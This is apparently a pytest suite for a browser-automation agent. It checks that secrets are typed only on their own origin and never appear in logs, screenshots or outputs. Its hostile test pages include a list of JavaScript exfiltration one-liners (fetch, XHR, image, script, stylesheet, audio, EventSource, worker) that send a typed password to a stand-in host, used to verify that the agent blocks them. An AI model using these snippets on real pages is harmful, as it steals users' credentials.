"""A secret is typed on its own origin only, and never comes out again."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.browser.pages import PageServer, html
from tests.browser.rig import KnownSecrets, Rig, click, fill, policy, target
from webagent.core.action import Entry, Type
from webagent.core.base import SecretUse
from webagent.core.expect import Bounds, TextShown, UrlIs, ValueIs

URL = "http://odd.test/"
CANARY = "canary-7f3a-secret"
FORM = (
    "<form action=/in><label>User <input></label><label>Password <input type=password></label>"
    "<button>In</button></form>"
)


def written(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.fixture(autouse=True)
def _known(secrets: KnownSecrets) -> Iterator[None]:
    secrets.values = {"password": CANARY, "free": CANARY, "theirs": CANARY}
    secrets.origins = {"password": "http://odd.test", "theirs": "http://inner.test"}
    yield
    secrets.given.clear()


async def test_a_secret_is_typed_on_its_origin(rig: Rig, pages: PageServer) -> None:
    pages.pages["/"] = html(FORM)
    await rig.goto(URL)
    await rig.ok(fill({"label": "Password"}, SecretUse(secret="password")))
    typed = await rig.tab.pages[0].locator("[type=password]").input_value()
    assert typed == CANARY


async def test_a_secret_may_be_typed_key_by_key(rig: Rig, pages: PageServer) -> None:
    pages.pages["/"] = html(FORM)
    await rig.goto(URL)
    entry = Entry(target=target({"label": "Password"}), value=SecretUse(secret="password"))
    await rig.ok(Type(entries=(entry,)))
    assert await rig.tab.pages[0].locator("[type=password]").input_value() == CANARY


async def test_another_origins_secret_is_refused(
    rig: Rig, pages: PageServer, secrets: KnownSecrets
) -> None:
    pages.pages["/"] = html(FORM)
    await rig.goto(URL)
    outcome = await rig.do(fill({"label": "Password"}, SecretUse(secret="theirs")))
    assert outcome.failure is not None
    assert outcome.failure.kind == "secret_refused"
    assert outcome.failure.dispatched == "no"
    assert secrets.given == set()
    assert rig.dispatched == ["goto"]


async def test_the_frames_origin_counts_not_the_pages(rig: Rig, pages: PageServer) -> None:
    pages.pages["/in"] = html(FORM)
    pages.pages["/"] = html("<iframe src=http://inner.test/in></iframe>")
    await rig.goto(URL)
    refused = await rig.do(fill({"label": "Password"}, SecretUse(secret="password")))
    assert refused.failure is not None
    assert refused.failure.kind == "secret_refused"
    await rig.ok(fill({"label": "Password"}, SecretUse(secret="theirs")))


async def test_a_sandboxed_frame_has_no_origin(rig: Rig, pages: PageServer) -> None:
    pages.pages["/in"] = html(FORM)
    pages.pages["/"] = html("<iframe sandbox='allow-scripts' src=/in></iframe>")
    await rig.goto(URL)
    outcome = await rig.do(fill({"label": "Password"}, SecretUse(secret="password")))
    assert outcome.failure is not None
    assert outcome.failure.kind == "secret_refused"


async def test_a_secret_without_an_origin_is_typed_within_the_scope(
    rig: Rig, pages: PageServer
) -> None:
    pages.pages["/"] = html(FORM)
    await rig.goto(URL)
    await rig.ok(fill({"label": "Password"}, SecretUse(secret="free")))


async def test_a_typed_secret_comes_out_nowhere(
    rig: Rig, pages: PageServer, kept: Path, secrets: KnownSecrets
) -> None:
    """The page does its worst: it shows, logs, asks and navigates with what was typed."""
    pages.pages["/"] = html(
        "<form action=/leak><label>Code <input name=c></label><button>In</button></form>"
        "<p id=out></p><script>const c=document.querySelector('input');c.oninput=()=>{"
        "out.textContent='You typed '+c.value;document.title=c.value;console.error(c.value)}"
        '</script><button type=button onclick="alert(c.value)">Tell</button>'
    )
    pages.pages["/leak"] = html("<h1>In</h1>")
    await rig.goto(URL)
    said: list[str] = []
    outcome = await rig.ok(fill({"label": "Code"}, SecretUse(secret="password")))
    said.append(outcome.model_dump_json())
    said.append((await rig.ok(click('button "Tell"'))).model_dump_json())
    seen = await rig.tab.observe(evidence="leak")
    said.append(seen.model_dump_json())
    said.append(str(await rig.tab.read_form()))
    findings = await rig.tab.examine(
        (
            UrlIs(glob="**"),
            ValueIs(target=target({"label": "Code"}), bounds=Bounds()),
            TextShown(text="You typed"),
        )
    )
    said.extend(f.model_dump_json() for f in findings)
    # An element that never becomes ready, whose text is in Playwright's log.
    late = await rig.do(click({"text": f"You typed {CANARY}"}, timeout=0.3), 0.3)
    said.append(late.model_dump_json().replace(f"You typed {CANARY}", ""))
    said.append((await rig.ok(click('button "In"'))).model_dump_json())
    said.append((await rig.tab.observe()).model_dump_json())
    assert secrets.given == {CANARY}
    assert [text for text in said if CANARY in text] == []
    assert [path for path in written(kept) if CANARY.encode() in path.read_bytes()] == []
    assert seen.screenshot is None
    assert "no screenshot: the page shows a secret" in seen.console
    assert seen.outline_file


async def test_all_is_watched_once_a_secret_stands_on_the_page(rig: Rig, pages: PageServer) -> None:
    """A write elsewhere by script is refused from then on."""
    await rig.tab.set_policy(policy("odd.test", effect="repeatable"))
    pages.pages["/"] = html(
        FORM + "<script>document.querySelector('[type=password]').oninput=e=>{"
        "fetch('http://away.test/steal',{method:'POST',mode:'no-cors',body:e.target.value})"
        ".catch(()=>document.title='refused')}</script>"
    )
    await rig.goto(URL)
    await rig.ok(fill({"label": "Password"}, SecretUse(secret="password")))
    await rig.tab.pages[0].wait_for_function("() => document.title === 'refused'")
    assert pages.hits("/steal") == 0


LEAKS = {
    "fetch": "fetch('http://away.test/steal?'+v,{mode:'no-cors'}).catch(()=>{})",
    "fetch, without the secret": "fetch('http://away.test/steal',{mode:'no-cors'}).catch(()=>{})",
    "xhr": "x=new XMLHttpRequest();x.open('GET','http://away.test/steal?'+v);x.send()",
    "image": "new Image().src='http://away.test/steal?'+v",
    "script": "s=document.createElement('script');s.src='http://away.test/steal?'+v;"
    "document.body.append(s)",
    "style": "s=document.createElement('link');s.rel='stylesheet';"
    "s.href='http://away.test/steal?'+v;document.head.append(s)",
    "media": "new Audio('http://away.test/steal?'+v).play().catch(()=>{})",
    "events": "new EventSource('http://away.test/steal?'+v)",
    "worker": "new Worker(URL.createObjectURL(new Blob(["
    "'fetch(`http://away.test/steal?'+v+'`,{mode:`no-cors`})'])))",
}


@pytest.mark.parametrize("kind", LEAKS)
@pytest.mark.parametrize("secret", [True, False])
async def test_no_address_carries_a_secret_elsewhere(
    rig: Rig, pages: PageServer, kind: str, secret: bool
) -> None:
    """Counted at the other server, which the same page does reach when no secret was typed."""
    pages.pages["/"] = html(
        FORM + "<script>document.querySelector('[type=password]').oninput=e=>{"
        f"const v=e.target.value;let x,s;{LEAKS[kind]};"
        "new Image().src='http://away.test/plain.png'}</script>"
    )
    await rig.goto(URL)
    value = SecretUse(secret="password") if secret else CANARY
    outcome = await rig.ok(fill({"label": "Password"}, value))
    await asyncio.wait_for(pages.reached("/plain.png"), 5)
    if not secret:
        await asyncio.wait_for(pages.reached("/steal"), 5)
        return
    refusals = list(outcome.happened.refusals)
    for _ in range(20):
        if refusals:
            break
        await rig.tab.stirred(0.1)
        refusals += (await rig.tab.happened()).happened.refusals
    assert pages.hits("/steal") == 0
    assert [r.url.partition("?")[0] for r in refusals] == ["http://away.test/steal"]
    assert [r for r in refusals if CANARY in r.model_dump_json()] == []
